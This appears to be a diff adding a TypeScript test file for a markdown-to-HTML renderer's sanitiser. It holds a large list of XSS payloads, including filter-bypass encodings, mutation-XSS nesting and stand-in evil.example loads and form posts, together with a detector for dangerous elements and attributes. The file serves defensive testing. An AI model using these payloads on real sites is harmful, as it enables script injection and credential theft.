@@ -1,0 +1,150 @@
+import type { Root } from 'hast';
+import { fromHtml } from 'hast-util-from-html';
+import { visit } from 'unist-util-visit';
+import { renderMarkdown } from './markdown.ts';
+
+const html = (source: string): string => renderMarkdown(source).body_html;
+
+test('CommonMark, tables and strikethrough become HTML', () => {
+  expect(html('# Hi *you*\n\n~~no~~ `code`')).toContain('<s>no</s> <code>code</code>');
+  expect(html('|a|b|\n|-|-|\n|1|2|')).toContain('<td>2</td>');
+  expect(html('**bold** <kbd>Ctrl</kbd>')).toBe('<p><strong>bold</strong> <kbd>Ctrl</kbd></p>\n');
+});
+
+test('Headings get ids that are unique, in any script, and name nothing of the page', () => {
+  expect(html('# Árvíz\n\n# Árvíz\n\n## 你好')).toBe(
+    '<h1 id="content-arviz">Árvíz</h1>\n<h1 id="content-arviz--2">Árvíz</h1>\n<h2 id="content-ni-hao">你好</h2>\n',
+  );
+  expect(html('<p id="location" name="cookie">x</p>')).not.toMatch(/ id=| name=/);
+});
+
+test('Links are not trusted', () => {
+  expect(html('[a](https://example.com)')).toContain('rel="noopener nofollow ugc"');
+  expect(html('<a href="https://example.com" rel="opener" target="_blank">a</a>')).toBe(
+    '<p><a href="https://example.com" rel="noopener nofollow ugc">a</a></p>\n',
+  );
+});
+
+test('The plain text has no markup, and its words are counted', () => {
+  expect(renderMarkdown('# One\n\n**t**wo <b>three</b> &amp; [four](https://a.b)')).toMatchObject({
+    body_text: 'One\ntwo three & four',
+    word_count: 5,
+  });
+  expect(renderMarkdown('')).toEqual({ body_html: '', body_text: '', word_count: 0 });
+});
+
+test('Elements that are nested too deeply are refused', () => {
+  expect(() => html('<div>'.repeat(20_000))).toThrow(
+    expect.objectContaining({ status: 422, errors: { body: [expect.any(String)] } }),
+  );
+  expect(html('>'.repeat(100_000))).toMatch(/^(<blockquote>\s*){1,20}/);
+});
+
+const ELEMENTS = new Set(
+  'a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p picture pre q rp rt ruby s samp section source span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var'.split(
+    ' ',
+  ),
+);
+
+/** What could do harm in a browser that shows the HTML. */
+const dangers = (source: string): string[] => {
+  const found: string[] = [];
+  // Parsed again, as a browser does with the stored HTML.
+  visit(
+    fromHtml(html(source), { fragment: true }) as Root,
+    'element',
+    ({ tagName, properties }) => {
+      if (!ELEMENTS.has(tagName)) found.push(`<${tagName}>`);
+      for (const [name, value] of Object.entries(properties)) {
+        if (/^on|^style$|^srcDoc$|^formAction$|^srcSet$/i.test(name)) found.push(name);
+        const isAddress = ['href', 'src', 'cite', 'longDesc'].includes(name);
+        // Browsers ignore controls and white space in schemes.
+        const address = `${value}`.replace(/[\p{Cc}\s]/gu, '');
+        if (isAddress && /^[^/?#]*:/.test(address) && !/^(https?|mailto|tel):/i.test(address)) {
+          found.push(`${name}=${address}`);
+        }
+      }
+    },
+  );
+  return found;
+};
+
+test.each([
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"/>',
+  '<img src=`x`onerror=alert(1)>',
+  '<img/src/onerror=alert(1)>',
+  '<img srcset="javascript:alert(1) 1x">',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href="java\tscript:alert(1)">a</a>',
+  '<a href="java\nscript:alert(1)">a</a>',
+  '<a href="&#106;avascript:alert(1)">a</a>',
+  '<a href="&#x6A&#x61&#x76&#x61script&colon;alert(1)">a</a>',
+  '<a href="\u0001javascript:alert(1)">a</a>',
+  '<a href=" &#14; javascript:alert(1)">a</a>',
+  '<a href="vbscript:msgbox(1)">a</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt&colon;alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](\u0001javascript:alert(1))',
+  '[a](data:text/html,<script>alert(1)</script>)',
+  '[a]: javascript:alert(1)\n\n[a]',
+  '<javascript:alert(1)>',
+  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![a](x"onerror="alert(1))',
+  '![a"onerror=alert(1) b="](x)',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math href="javascript:alert(1)">a</math>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<p style="background:url(javascript:alert(1))">a</p>',
+  '<div style="position:fixed;inset:0">a</div>',
+  '<style>@import "//evil.example"</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">a</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<body onload=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>a</details>',
+  '<marquee onstart=alert(1)>a</marquee>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<title></title><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[><img src=x onerror=alert(1)>]]>',
+  '<?xml ?><img src=x onerror=alert(1)>',
+  '<x onclick=alert(1)>a</x>',
+  '<a\u000chref="javascript:alert(1)">a</a>',
+  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
+  '<p>**<script>alert(1)</script>**</p>',
+])('Nothing that runs or loads code is left of %j', (source) => {
+  expect(dangers(source)).toEqual([]);
+});
+
+test.each([
+  ['a script', '<script>alert(1)</script>'],
+  ['a handler', '<img src=x onerror=alert(1)>'],
+])('The check finds %s in HTML that is not sanitised', (_, source) => {
+  const names: string[] = [];
+  visit(fromHtml(source, { fragment: true }) as Root, 'element', ({ tagName, properties }) => {
+    names.push(tagName, ...Object.keys(properties));
+  });
+  expect(names.some((name) => !ELEMENTS.has(name) && /^(script|onError)$/.test(name))).toBe(true);
+});
